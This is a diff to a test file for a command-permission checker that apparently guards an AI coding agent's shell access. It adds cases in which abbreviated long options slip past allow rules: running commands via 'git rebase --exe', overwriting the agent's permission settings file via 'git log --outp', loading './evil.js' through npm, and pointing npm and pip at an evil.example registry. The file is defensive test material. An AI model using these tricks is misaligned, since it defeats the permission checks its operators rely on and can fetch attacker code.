@@ -169,6 +169,7 @@ GIT_PUSHES = [
     "git submodule foreach git push",
     "/usr/lib/git-core/git-push origin main",
     "git --exec-path=/usr/lib/git-core push origin main",
+    "git rebase --exe='git push origin main' HEAD~1",
 ]
 
 
@@ -274,6 +275,14 @@ OPTION_FAMILIES = [  # (allow rule, command that it must not allow)
     ("Bash(pytest:*)", "pytest -c /tmp/evil.ini"),
     ("Bash(pytest:*)", "pytest --rootdir=/tmp/evil"),
     ("Bash(pytest:*)", "pytest --pastebin=all"),
+    # long options taken by an unambiguous prefix (git, npm's nopt, pip's optparse, pytest's argparse)
+    ("Bash(git log:*)", "git log --outp=.claude/settings.local.json"),
+    ("Bash(git:*)", "git rebase --exe='touch x' HEAD~1"),
+    ("Bash(npm test:*)", "npm test --node-opt=--require=./evil.js"),
+    ("Bash(npm test:*)", "npm test --scr=./evil.sh"),
+    ("Bash(npm test:*)", "npm test --reg=http://evil.example"),
+    ("Bash(pip install:*)", "pip install --ind=http://evil.example x"),
+    ("Bash(pytest:*)", "pytest --basete=/home"),
 ]
 STILL_COVERED = [
     ("Bash(git log:*)", "git log --oneline -5"),
